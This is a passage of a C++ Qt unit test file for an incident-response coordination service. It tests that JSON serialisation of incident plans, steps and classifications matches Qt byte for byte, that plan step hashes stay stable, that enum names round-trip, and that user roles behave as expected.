        for (int k = 0; k < n; ++k)
            t.append(QChar(rng.bounded(2) ? char16_t(0x20 + rng.bounded(0x5f)) : char16_t(rng.bounded(0x10000))));
        return t;
    };
    for (int round = 0; round < 300; ++round) {
        Classification c;
        c.category = text();
        c.severity = Severity(rng.bounded(5));
        c.mimRequired = rng.bounded(2);
        c.confidence = number();
        c.analyst = text();
        c.escalate = rng.bounded(2);
        c.escalationReason = text();
        for (int k = rng.bounded(4); k > 0; --k)
            c.flags.append(text());
        for (int k = rng.bounded(4); k > 0; --k)
            c.reasons.append(Reason {text(), number(), text()});
        for (int k = rng.bounded(3); k > 0; --k)
            c.runnersUp.append(RunnerUp {text(), number()});
        QCOMPARE(c.toCompactJson(), compact(c.toJson()));
        KnowledgeMatch m;
        m.docId = text();
        m.kind = text();
        m.title = text();
        m.score = number();
        for (int k = rng.bounded(4); k > 0; --k)
            m.matchedTerms.append(text());
        QCOMPARE(m.toCompactJson(), compact(m.toJson()));
    }
}

/// Plan::toCompactJson and a step's canonical content are Qt's bytes (the
/// content is what approvals sign: a byte more or less changes every hash).
void TestModelsJson::planCompactJsonMatchesQt()
{
    QCOMPARE(samplePlan().toCompactJson(), compact(samplePlan().toJson()));
    QCOMPARE(Plan().toCompactJson(), compact(Plan().toJson()));
    QCOMPARE(PlanStep().toCompactJson(), compact(PlanStep().toJson()));
    for (PlanStep step : {sampleStep(), sampleRollback(), PlanStep()}) {
        QCOMPARE(step.canonicalContent(), compact(step.contentJson()));
        step.rollbackPlaybook = u"restart-service-undo"_s; // written only when set
        QCOMPARE(step.canonicalContent(), compact(step.contentJson()));
        QCOMPARE(step.toCompactJson(), compact(step.toJson()));
    }
    // The hash of a known step stays what it was signed as.
    QCOMPARE(sampleStep().contentHash(),
             QString::fromLatin1(
                 QCryptographicHash::hash(compact(sampleStep().contentJson()), QCryptographicHash::Sha256).toHex()));
}

void TestModelsJson::planCompactJsonMatchesQtOnRandomPlans()
{
    QRandomGenerator rng(20261203);
    auto text = [&] { return randomText(rng, 10); };
    auto time = [&] { return randomTime(rng, 3); };
    for (int round = 0; round < 300; ++round) {
        Plan p;
        p.source = text();
        p.summary = text();
        p.createdBy = text();
        p.createdAt = time();
        for (int k = rng.bounded(5); k > 0; --k) {
            PlanStep s;
            for (QString *f : {&s.id, &s.title, &s.description, &s.playbookId, &s.environment, &s.rollbackOf, &s.owner,
                               &s.requestedBy, &s.resultSummary, &s.blockedReason, &s.escalatedReason, &s.escalatedTo})
                *f = text();
            if (rng.bounded(2))
                s.rollbackPlaybook = text();
            s.kind = StepKind(rng.bounded(int(StepKind::Manual) + 1));
            s.risk = Risk(rng.bounded(3));
            s.state = StepState(rng.bounded(int(StepState::Skipped) + 1));
            s.mutates = rng.bounded(2);
            s.blocked = rng.bounded(2);
            for (int r = rng.bounded(3); r > 0; --r)
                s.requiredRoles.append(text());
            if (rng.bounded(2))
                s.vars = QJsonObject {{text(), text()}, {u"n"_s, double(rng.generate()) / 7.0}, {u"b"_s, true}};
            for (QDateTime *t : {&s.dueAt, &s.startedAt, &s.finishedAt, &s.escalatedAt, &s.escalatedDue})
                *t = time();
            p.steps.append(s);
        }
        const QByteArray expected = compact(p.toJson());
        if (p.toCompactJson() != expected)
            QFAIL(qPrintable(u"round %1: %2 != %3"_s.arg(round).arg(QString::fromUtf8(p.toCompactJson()),
                                                                    QString::fromUtf8(expected))));
        for (const PlanStep &s : std::as_const(p.steps))
            QCOMPARE(s.canonicalContent(), compact(s.contentJson()));
    }
}

void TestModelsJson::compactValueAloneIsAsWrittenNested_data()
{
    QTest::addColumn<QJsonValue>("value");
    QTest::newRow("object") << QJsonValue(QJsonObject {{u"b"_s, 1}, {u"a"_s, QJsonArray {u"x"_s, false}}});
    QTest::newRow("empty object") << QJsonValue(QJsonObject());
    QTest::newRow("array") << QJsonValue(QJsonArray {1, 2.5, QJsonValue::Null});
    QTest::newRow("empty array") << QJsonValue(QJsonArray());
    QTest::newRow("string with escapes") << QJsonValue(u"a\"b\\c\n\u0001 ü"_s);
    QTest::newRow("double") << QJsonValue(0.1);
    QTest::newRow("integer") << QJsonValue(qint64(-9007199254740993LL));
    QTest::newRow("bool") << QJsonValue(true);
    QTest::newRow("null") << QJsonValue(QJsonValue::Null);
    // Integers and doubles are written differently (an exponent only for a double).
    QTest::newRow("double 1e15") << QJsonValue(1e15);
    QTest::newRow("integer 10^15") << QJsonValue(qint64(1'000'000'000'000'000LL));
    QTest::newRow("double 3.0") << QJsonValue(3.0);
    QTest::newRow("integer max") << QJsonValue(std::numeric_limits<qint64>::max());
    QTest::newRow("double -0") << QJsonValue(-0.0);
    QTest::newRow("double huge") << QJsonValue(1.7976931348623157e308);
    QTest::newRow("double tiny") << QJsonValue(5e-324);
    QTest::newRow("infinity") << QJsonValue(std::numeric_limits<double>::infinity());
    QTest::newRow("nested") << QJsonValue(
        QJsonObject {{u"z"_s, QJsonArray {QJsonArray {}, QJsonObject {}, QJsonObject {{u"\u0000k"_s, 1e-7}}}},
                     {u"\u00e9"_s, QJsonValue::Null},
                     {u"a\"b"_s, QJsonArray {u"\U0001F6A8"_s, qint64(-1), 2.5e300}}});
}

void TestModelsJson::compactValueAloneIsAsWrittenNested()
{
    QFETCH(QJsonValue, value);
    // Spliced into an object, it must read as it would have been written there.
    const QByteArray spliced = "{\"k\":" + json::compact(value) + '}';
    QCOMPARE(spliced, compact(QJsonObject {{u"k"_s, value}}));
}

void TestModelsJson::compactValuesMatchQtOnRandomTrees()
{
    // Labels, external references and step variables are written by
    // json::compact: on random trees of every JSON type it writes Qt's bytes.
    QRandomGenerator rng(20261203);
    std::function<QJsonValue(int)> tree = [&](int depth) -> QJsonValue {
        switch (rng.bounded(depth > 3 ? 6 : 8)) {
        case 0: return QJsonValue::Null;
        case 1: return rng.bounded(2) == 0;
        case 2: return randomText(rng, 24);
        case 3: return qint64(rng.generate64()) >> rng.bounded(64);
        case 4: return double(qint64(rng.generate64())) / std::pow(10.0, rng.bounded(-30, 30));
        case 5: return double(rng.bounded(1000)); // an integral double
        case 6: {
            QJsonArray a;
            for (int k = rng.bounded(5); k > 0; --k)
                a.append(tree(depth + 1));
            return a;
        }
        default: {
            QJsonObject o;
            for (int k = rng.bounded(6); k > 0; --k)
                o.insert(randomText(rng, 8), tree(depth + 1));
            return o;
        }
        }
    };
    for (int n = 0; n < 500; ++n) {
        const QJsonValue value = tree(0);
        const QByteArray spliced = "{\"k\":" + json::compact(value) + '}';
        QCOMPARE(spliced, compact(QJsonObject {{u"k"_s, value}}));
        if (value.isObject())
            QCOMPARE(json::compact(value), compact(value.toObject()));
    }
}

void TestModelsJson::enumNames_data()
{
    QTest::addColumn<QString>("enumName");
    QTest::addColumn<QString>("text");

    const auto add = [](const char *enumName, const QStringList &names) {
        for (const QString &name : names)
            QTest::addRow("%s %s", enumName, qPrintable(name)) << QString::fromLatin1(enumName) << name;
    };
    add("IncidentState",
        {u"new"_s, u"triaged"_s, u"planned"_s, u"awaiting_approval"_s, u"executing"_s, u"validating"_s, u"resolved"_s,
         u"failed"_s, u"escalated"_s, u"rolled_back"_s, u"closed"_s});
    add("Severity", {u"unknown"_s, u"SEV1"_s, u"SEV2"_s, u"SEV3"_s, u"SEV4"_s});
    add("StepKind",
        {u"diagnose"_s, u"snapshot"_s, u"remediate"_s, u"validate"_s, u"rollback"_s, u"communicate"_s, u"manual"_s});
    add("Risk", {u"low"_s, u"medium"_s, u"high"_s});
    add("StepState", {u"pending"_s, u"running"_s, u"succeeded"_s, u"failed"_s, u"rejected"_s, u"skipped"_s});
    add("Role", userRoleNames());
}

void TestModelsJson::enumNames()
{
    QFETCH(QString, enumName);
    QFETCH(QString, text);

    QString back;
    if (enumName == "IncidentState"_L1)
        back = toString(incidentStateFromString(text).value());
    else if (enumName == "Severity"_L1)
        back = toString(severityFromString(text).value());
    else if (enumName == "StepKind"_L1)
        back = toString(stepKindFromString(text).value());
    else if (enumName == "Risk"_L1)
        back = toString(riskFromString(text).value());
    else if (enumName == "StepState"_L1)
        back = toString(stepStateFromString(text).value());
    else if (enumName == "Role"_L1)
        back = toString(roleFromString(text).value());
    QCOMPARE(back, text);
}

void TestModelsJson::unknownEnumNames_data()
{
    QTest::addColumn<QString>("enumName");
    QTest::addColumn<QString>("text");

    QTest::newRow("IncidentState upper case") << u"IncidentState"_s << u"NEW"_s;
    QTest::newRow("IncidentState empty") << u"IncidentState"_s << QString();
    QTest::newRow("Severity lower case") << u"Severity"_s << u"sev1"_s;
    QTest::newRow("StepKind unknown") << u"StepKind"_s << u"reboot"_s;
    QTest::newRow("Risk unknown") << u"Risk"_s << u"critical"_s;
    QTest::newRow("StepState approved is derived, not stored") << u"StepState"_s << u"approved"_s;
    QTest::newRow("Role system is internal") << u"Role"_s << u"system"_s;
    QTest::newRow("Role underscore spelling") << u"Role"_s << u"change_approver"_s;
}

void TestModelsJson::unknownEnumNames()
{
    QFETCH(QString, enumName);
    QFETCH(QString, text);

    bool parsed = true;
    if (enumName == "IncidentState"_L1)
        parsed = incidentStateFromString(text).has_value();
    else if (enumName == "Severity"_L1)
        parsed = severityFromString(text).has_value();
    else if (enumName == "StepKind"_L1)
        parsed = stepKindFromString(text).has_value();
    else if (enumName == "Risk"_L1)
        parsed = riskFromString(text).has_value();
    else if (enumName == "StepState"_L1)
        parsed = stepStateFromString(text).has_value();
    else if (enumName == "Role"_L1)
        parsed = roleFromString(text).has_value();
    QVERIFY(!parsed);
}

void TestModelsJson::userRoles()
{
    const User bob = sampleUser();
    QVERIFY(bob.hasRole(Role::ChangeApprover));
    QVERIFY(bob.hasRole(Role::Responder));
    QVERIFY(!bob.hasRole(Role::Mim));
    QVERIFY(bob.hasAnyRole({u"mim"_s, u"responder"_s}));
    QVERIFY(!bob.hasAnyRole({u"mim"_s, u"admin"_s}));
    QVERIFY(!bob.hasAnyRole({}));

    const User system = User::system();
    QCOMPARE(system.name, u"warroomd"_s);
    QVERIFY(system.hasRole(Role::System));
    QVERIFY(!userRoleNames().contains(u"system"_s));
    // The coordinator's identity cannot be forged through the API.
    const Expected<User> forged = User::fromJson(system.toJson());
    QVERIFY(!forged);
    QCOMPARE(int(forged.error().code), int(ErrorCode::InvalidInput));
}

void TestModelsJson::incidentKey()
{
    QCOMPARE(sampleIncident().key(), u"INC-42"_s);
    QCOMPARE(sampleIncident().toJson().value(u"key"_s).toString(), u"INC-42"_s);
    QVERIFY(!isTerminal(IncidentState::Resolved));
    QVERIFY(isTerminal(IncidentState::Closed));
}

QTEST_GUILESS_MAIN(TestModelsJson)
#include "tst_models_json.moc"
